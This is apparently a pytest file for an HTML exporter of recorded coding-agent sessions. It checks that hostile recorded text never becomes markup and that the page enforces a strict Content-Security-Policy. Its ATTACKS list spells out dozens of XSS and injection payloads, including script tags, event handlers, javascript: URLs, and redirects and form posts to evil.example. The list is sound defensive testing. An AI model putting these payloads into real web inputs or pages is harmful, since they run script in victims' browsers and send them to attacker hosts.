"""A session as a page: what is in it is text, and nothing recorded can become anything else."""

from __future__ import annotations

import base64
import hashlib
import re
from html.parser import HTMLParser

import msgspec
import pytest

from tachograph.formats import html
from tachograph.formats.recording import Recording
from tachograph.records import Event, OutputChunk, Usage
from tests.formats.sessions import SESSION, START, STEPS, event, recording
from tests.hostile import PAYLOADS, controls

ATTACKS = [
    "<script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=x>",
    "<object data=//evil>",
    "<embed src=//evil>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "--!><script>x</script>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "\\u003cscript\\u003e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\x1b[31mscript>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<template><script>x</script></template>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "[click](javascript:alert(1)) ![x](//evil.example/a.png)",
    *PAYLOADS.values(),
]
TAGS = {
    *("html", "head", "meta", "title", "style", "body", "h1", "h2", "dl", "dt", "dd", "ul", "li", "a", "small"),
    *("table", "tr", "td", "th", "section", "div", "pre", "details", "summary", "time", "span", "code", "p"),
}  # fmt: skip
VOID = {"meta"}


class Page(HTMLParser):
    """Tags with their attributes, and the text of every element."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.style = ""
        self._open: list[str] = []
        self.feed(text)
        self.close()
        assert not self._open, f"never closed: {self._open}"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self._open[-1:] == ["style"]:
            self.style += data
        else:
            self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")


def page(given: Recording) -> str:
    return "".join(html.export(given))


def everywhere(text: str) -> Recording:
    """A session in which every text is this one."""
    known = {"input": {text: text}, "kind": text, "lines_added": 1, "lines_removed": 1}
    session = msgspec.structs.replace(
        SESSION, id=text, title=text, model=text, project_dir=text, branch=text, command=text, agent=text
    )
    steps: list[tuple[Event, Usage | None]] = [
        (event(1, 1, "prompt", content=text), None),
        (event(2, 2, "reply", content=text), None),
        (event(3, 3, "thinking", content=text), None),
        (event(4, 4, "command", tool_name=text, command=text, status="error", exit_code=1, content=text), None),
        (event(5, 5, "file_op", tool_name=text, file_path=text, operation="edit", status="ok", metadata=known), None),
        (event(6, 6, "tool_call", tool_name=text, status=text, content=text, metadata=known), None),
        (event(7, 7, "marker", content=text, metadata=known), None),
        (event(8, 8, "gap", content=text), None),
    ]
    files = [{"file_path": text, "reads": 1, "writes": 2, "edits": 3, "deletes": 4}]
    return recording(steps, session, files=files, receipt_id=text)


def shape(text: str) -> list[tuple[str, list[str]]]:
    return [(tag, sorted(attrs)) for tag, attrs in Page(page(everywhere(text))).tags]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_recorded_text_becomes_a_tag_an_attribute_or_a_control(attack: str) -> None:
    text = page(everywhere(attack))
    assert shape(attack) == shape("plain")
    assert not controls(text)
    for _, attrs in Page(text).tags:
        assert not [name for name in attrs if name.startswith("on") or name in ("src", "action", "style")]
        assert attrs.get("href", "#").startswith("#")


def test_there_are_enough_attacks() -> None:
    assert len(set(ATTACKS)) >= 60


def test_tags_are_those_we_know_and_ids_are_there_once() -> None:
    found = Page(page(recording()))
    assert {tag for tag, _ in found.tags} <= TAGS
    ids = [attrs["id"] for _, attrs in found.tags if "id" in attrs]
    assert len(ids) == len(set(ids))
    targets = [attrs["href"] for _, attrs in found.tags if "href" in attrs]
    assert targets
    assert {target[1:] for target in targets if target} <= set(ids)


def test_the_policy_allows_its_own_style_and_nothing_else() -> None:
    found = Page(page(recording()))
    digest = base64.b64encode(hashlib.sha256(found.style.encode()).digest()).decode()
    [policy] = [attrs["content"] for tag, attrs in found.tags if attrs.get("http-equiv") == "Content-Security-Policy"]
    assert policy == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    assert "prefers-color-scheme: dark" in found.style
    assert not re.search(r"url\(|@import", found.style)


def test_what_happened_is_on_it() -> None:
    files = [{"file_path": "a.py", "reads": 0, "writes": 0, "edits": 1, "deletes": 0}]
    text = Page(page(recording(files=files, receipt_id="9f86d081"))).text
    for words in (
        "Mend the tests", "why do the tests fail?", "Let me look.", "I should run them", "pytest -q", "exit 1",
        "1 failed",
        "+2 −1", "Turn 2", "and now push it", "refused", "529 overloaded", "9f86d081", "1,100 in, 70 out", "$0.12",
        "completed, exit code 0",
    ):  # fmt: skip
        assert words in text, words


def test_a_failed_call_is_open_and_listed_a_rejected_one_is_not() -> None:
    found = page(recording())
    assert re.findall(r'<details id="event-(\d+)" class="failed" open>', found) == ["5"]
    assert re.findall(r'<li><a href="#event-(\d+)">', found) == ["5", "13"]


def test_a_long_result_is_cut_and_says_so() -> None:
    steps = [(event(1, 1, "command", command="yes", status="ok", content="y" * 100_000), None)]
    text = page(recording(steps))
    assert len(text) < 75_000
    assert "(and 36,000 more characters)" in text


def test_a_plain_command_shows_what_it_printed() -> None:
    data = b"one\r\n10%\r20%\rdone\x1b[31m red\x1b[0m\r\n<b>"
    chunks = [
        OutputChunk("s-1", "stdout", 1, 2, data, ((START, len(data)),)),
        OutputChunk("s-1", "input", 1, 0, b"typed", ((START, 5),)),
    ]
    text = Page(page(recording([], output=lambda: iter(chunks)))).text
    assert "one\ndone red\n<b>" in text
    assert "typed" not in text


def test_steps_that_say_nothing_leave_nothing() -> None:
    before = page(recording())
    assert page(recording([*STEPS, (event(30, 30, "reply", content=" "), None)])) == before
